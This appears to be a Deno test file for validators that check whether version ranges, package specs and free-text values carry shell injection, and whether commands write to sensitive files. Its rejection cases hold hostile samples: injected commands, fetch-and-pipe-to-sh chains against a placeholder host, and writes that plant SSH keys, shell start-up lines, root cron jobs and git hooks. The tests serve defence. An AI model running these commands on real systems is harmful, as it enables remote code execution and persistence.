import assert from "node:assert/strict";
import { isPackageSpec, isProseValue, isVersionRange, writesSensitiveFile } from "./_cmd_shape.ts";

Deno.test("isProseValue() accepts street addresses and titles", () => {
  for (
    const v of [
      "221B Baker St, London",
      "1600 Amphitheatre Pkwy, Mountain View, CA 94043",
      "Flat 3/2, 10 O'Connell St",
      "Rue de l’Église 5, Genève",
    ]
  ) assert.ok(isProseValue(v), v);
});

Deno.test("isProseValue() rejects shell syntax, flags and single tokens", () => {
  for (
    const v of [
      "example.com; id",
      "a.com && whoami",
      "-oProxyCommand=sh",
      "x --output /tmp/y",
      "localhost",
      "report.txt' whoami",
      "$(id) street",
      "a | b",
    ]
  ) assert.ok(!isProseValue(v), v);
});

Deno.test("isVersionRange() accepts semver, PEP 440 and tag ranges", () => {
  for (
    const v of [
      "^20.11.0",
      "~1.2",
      ">=3.0 <4",
      "1.x || 2.x",
      "1.2.3 - 2.0.0",
      "~=1.4",
      ">=3.0,<4",
      "!=1.3.*",
      "*",
      "latest",
      "1.0.0-beta.1+build.5",
      "v2",
    ]
  ) assert.ok(isVersionRange(v), v);
});

Deno.test("isVersionRange() rejects chained commands and redirections", () => {
  for (
    const v of ["1.0; id", "^1.2 && curl x", "1.0 > /tmp/x", "$(id)", "latest`id`", "1.0 || id"]
  ) {
    assert.ok(!isVersionRange(v), v);
  }
});

Deno.test("writesSensitiveFile() finds redirects and tee into start-up, key and system files", () => {
  assert.ok(writesSensitiveFile("echo ssh-ed25519 AAA >> ~/.ssh/authorized_keys"));
  assert.ok(writesSensitiveFile("echo 'curl x|sh' >> ~/.bashrc"));
  assert.ok(writesSensitiveFile("echo '* * * * * root sh' | sudo tee -a /etc/crontab"));
  assert.ok(writesSensitiveFile("cat hook > .git/hooks/pre-commit"));
  assert.equal(writesSensitiveFile("npm run lint | tee lint.log"), undefined);
  assert.equal(writesSensitiveFile("make > build.log 2>&1"), undefined);
});

Deno.test("isPackageSpec() accepts npm and PyPI requirements with ranges, tags and markers", () => {
  for (
    const v of [
      "lodash",
      "@types/node@^20.11.0",
      'react@">=18 <20"',
      "vue@next",
      "requests[socks]>=2.31,<3",
      "django~=4.2",
      'typing-extensions==4.9.0; python_version < "3.11"',
    ]
  ) {
    assert.ok(isPackageSpec(v), v);
  }
});

Deno.test("isPackageSpec() rejects chains, extra lines, options and bare second words", () => {
  for (
    const v of [
      "left-pad@1.3.0 && wget -qO- x.example | sh",
      "flask==3.0.0\n-e git+https://x.example/e.git",
      "numpy>=1.26 ; curl x.example|sh",
      "lodash whoami",
      "lodash --registry=http://x.example",
    ]
  ) {
    assert.equal(isPackageSpec(v), false, v);
  }
});
